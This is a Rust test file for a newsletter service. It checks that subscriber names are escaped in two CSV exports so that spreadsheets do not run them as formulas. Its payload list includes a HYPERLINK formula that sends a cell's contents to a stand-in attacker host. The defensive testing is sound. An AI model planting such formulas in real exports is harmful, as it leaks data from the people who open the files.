//! CSV formula injection: names typed into the public form (or relay replies)
//! reach the two CSV exports, which people open in spreadsheets. Cells that a
//! spreadsheet would evaluate are neutralised with a leading quote (OWASP).

use crate::helpers::*;
use crate::mail::*;
use serde_json::json;

const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ana\")",
    "+SUM(1)",
    "@SUM(1)",
    "-2+3",
];

fn cells(csv_text: &str, column: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let at = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == column)
        .unwrap();
    reader
        .records()
        .map(|r| r.unwrap().get(at).unwrap().to_owned())
        .collect()
}

fn assert_neutralised(names: &[String]) {
    let mut names = names.to_vec();
    names.sort();
    let mut expected: Vec<String> = FORMULAS.iter().map(|f| format!("'{f}")).collect();
    expected.sort();
    assert_eq!(names, expected);
}

#[tokio::test]
async fn the_subscriber_export_neutralises_formulas_from_the_public_form() {
    let app = spawn_app().await;
    let list = app
        .create(
            "/api/v1/lists",
            json!({"slug": "members", "name": "Members", "public_subscribe": true, "default_language": "es"}),
        )
        .await["id"]
        .as_i64()
        .unwrap();
    for (i, name) in FORMULAS.iter().enumerate() {
        let res = app
            .client
            .post(app.url("/newsletter/subscribe"))
            .json(&json!({"email": format!("p{i}@example.org"), "name": name, "lists": ["members"], "consent": true}))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 202);
        // Answered first, written on its own task.
        crate::subscriber_view::wait_for_subscriber(&app, &format!("p{i}@example.org")).await;
    }
    let last = format!("p{}@example.org", FORMULAS.len() - 1);
    crate::subscriber_view::wait_for_subscriber(&app, &last).await;
    let res = app
        .get(&format!("/api/v1/lists/{list}/export.csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let text = res.text().await.unwrap();
    assert_neutralised(&cells(&text, "name"));
}

#[tokio::test]
async fn the_delivery_report_neutralises_formulas() {
    let mail = spawn_mail_app().await;
    let app = &mail.app;
    let list = mail.list("members").await;
    for (i, name) in FORMULAS.iter().enumerate() {
        mail.confirmed(list, &format!("p{i}@example.org"), name, "en")
            .await;
    }
    let issue = mail.issue(&[list], None).await;
    mail.send(issue).await;
    mail.run().await;
    let res = app
        .get(&format!("/api/v1/issues/{issue}/deliveries.csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let text = res.text().await.unwrap();
    assert_neutralised(&cells(&text, "name"));
    // Numbers and states are left as they are.
    assert!(cells(&text, "state").iter().all(|s| s == "sent"), "{text}");
}
